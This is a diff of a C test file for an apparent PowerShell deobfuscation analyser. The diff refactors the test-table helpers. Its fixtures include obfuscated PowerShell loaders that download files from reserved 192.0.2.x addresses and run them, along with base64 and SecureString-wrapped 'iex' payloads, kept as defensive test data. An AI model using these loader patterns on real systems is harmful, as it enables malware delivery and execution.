@@ -5,17 +5,9 @@
 #include <stddef.h>
 #include <cmocka.h>
 
-#include "tests/table.h"
-#include "unmask/harness.h"
+#include "unmask/effect_rows.h"
 
-enum certainty { KNOWN, CONDITIONAL, PARTIAL, NONE };
-
-static const struct row {
-    const char *name, *language, *code;
-    enum effect_kind kind;
-    const char *argument, *want;
-    enum certainty certainty;
-} cases[] = {
+static const struct effect_row cases[] = {
     { "list of urls", "powershell", "$u='http://192.0.2.1/a@http://192.0.2.2/b'.Split('@');foreach($i in $u){try{(New-Object Net.WebClient).DownloadFile($i,'x.txt');break}catch{}}", EFFECT_DOWNLOAD, "url", "http://192.0.2.1/a", KNOWN },
     { "size check is passed", "powershell", "$w=&('new'+'-obj'+'ect') net.webclient;foreach($i in ('http://192.0.2.1/a*http://192.0.2.2/b').\"s`pLIt\"([char]42)){try{$w.\"dOWN`loADfi`le\"($i,'x.exe');If((.('Ge'+'t-It'+'em') 'x.exe').\"l`eng`th\" -ge 31000){Start-Process 'x.exe';break}}catch{}}", EFFECT_DOWNLOAD, "url", "http://192.0.2.2/b", CONDITIONAL },
     { "the file is run", "powershell", "$w=New-Object Net.WebClient;$w.DownloadFile('http://192.0.2.1/a','x.exe');if((Get-Item 'x.exe').length -ge 31000){Start-Process 'x.exe'}", EFFECT_RUN, "command", "x.exe", CONDITIONAL },
@@ -34,7 +26,7 @@ static const struct row {
     { "base64", "powershell", "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('U3RhcnQtUHJvY2VzcyBjYWxj')))", EFFECT_RUN, "command", "calc", KNOWN },
     { "text in a text", "powershell", "$a='al';Start-Process \"c$($a)c\"", EFFECT_RUN, "command", "calc", KNOWN },
     { "random is not known", "powershell", "$r=Get-Random;Start-Process \"a$r\"", EFFECT_RUN, "command", "a⟂", PARTIAL },
-    { "open condition", "powershell", "if($x -eq (Get-Date)){Start-Process calc}", EFFECT_RUN, "command", "calc", PARTIAL },
+    { "open condition", "powershell", "if($x -eq (Get-Date)){Start-Process calc}", EFFECT_RUN, "command", "calc", CONDITIONAL },
     { "condition that does not hold", "powershell", "if(1 -eq 2){Start-Process calc}", EFFECT_RUN, "command", "", NONE },
     { "secure string", "powershell", "iex ([Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR($('76492d1116743f0423413b16050a5345MgB8AEEAQQBFAEMAQQB3AFEARgBCAGcAYwBJAEMAUQBvAEwARABBADAATwBEAHcAPQA9AHwAYgBhAGYAYwBlAGEANgA5ADIANABkAGQANQBkAGUAYQA5ADAAMQAxAGIANQBiAGUAMgAzADEAOQBkADMAZABiAGQAZgA1AGMAMQBkAGQAZAAwADYAZgA0AGIAYgA3ADUAMwA0ADMAOAA0AGYAMwA5ADYAMwBkADAANQAxADUAYgA='|ConvertTo-SecureString -k 1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16))))", EFFECT_DELAY, "value", "7", KNOWN },
     { "secure string by a member's place", "powershell", "([Runtime.InteropServices.Marshal]::([Runtime.InteropServices.Marshal].GetMembers()[5].name).invoke([Runtime.InteropServices.Marshal]::SecureStringToBSTR($('76492d1116743f0423413b16050a5345MgB8AEEAQQBFAEMAQQB3AFEARgBCAGcAYwBJAEMAUQBvAEwARABBADAATwBEAHcAPQA9AHwAYgBhAGYAYwBlAGEANgA5ADIANABkAGQANQBkAGUAYQA5ADAAMQAxAGIANQBiAGUAMgAzADEAOQBkADMAZABiAGQAZgA1AGMAMQBkAGQAZAAwADYAZgA0AGIAYgA3ADUAMwA0ADMAOAA0AGYAMwA5ADYAMwBkADAANQAxADUAYgA=' | .('ConvertTo-Secure'+'String') -KeY 1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16))))|.('i'+'ex')", EFFECT_DELAY, "value", "7", KNOWN },
@@ -104,19 +96,8 @@ static void effects(void **state)
 {
     (void)state;
     struct table t = { 0 };
-    TABLE_EACH (&t, row, cases) {
-        struct tally *r = tally_unmasked(row->language, NULL, slice_of(row->code));
-        const struct effect *e = NULL;
-        bool found = false;
-        for (size_t n = 0; !found && (e = tally_effect(r, row->kind, n)) != NULL; n++)
-            found = slice_is(tally_argument(e, row->argument), row->want) && tally_certainty(e, row->certainty == KNOWN, row->certainty == CONDITIONAL);
-        tally_check(r);
-        if (found != (row->certainty != NONE))
-            table_slice(&t, row->name, tally_argument(tally_effect(r, row->kind, 0), row->argument), row->certainty == NONE ? "(nothing)" : row->want);
-        if (row->certainty == NONE && tally_effect(r, row->kind, 0))
-            table_slice(&t, row->name, tally_argument(tally_effect(r, row->kind, 0), row->argument), "(nothing)");
-        tally_drop(&r);
-    }
+    TABLE_EACH (&t, row, cases)
+        effect_row_check(&t, row);
 }
 
 static const char busy[] = "$a='x{0}'-f'y';foreach($b in 1..3){try{$c+=[char]($b -bxor 1)}catch{}};if((gi x).length -ge 3){& ('ie'+'x') \"a$($b)\"}\n@{a=1};$d=@(1,2)|%{$_};[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('QQ==')).Split('@')[-1..-2]";
@@ -124,23 +105,13 @@ static const char busy[] = "$a='x{0}'-f'y';foreach($b in 1..3){try{$c+=[char]($b
 static void every_beginning(void **state)
 {
     (void)state;
-    slice whole = slice_of(busy);
-    for (size_t n = 0; n < whole.len; n++) {
-        struct tally *r = tally_unmasked("powershell", NULL, slice_sub(whole, 0, n));
-        tally_check(r);
-        tally_drop(&r);
-    }
+    tally_beginnings("powershell", slice_of(busy));
 }
 
 static void memory_fails_anywhere(void **state)
 {
     (void)state;
-    for (size_t n = 1; n < 200; n++) {
-        struct tally_options o = { .fail_at = n };
-        struct tally *r = tally_unmasked("powershell", &o, slice_of(busy));
-        tally_check(r);
-        tally_drop(&r);
-    }
+    tally_starved("powershell", slice_of(busy), 200);
 }
 
 int main(void)
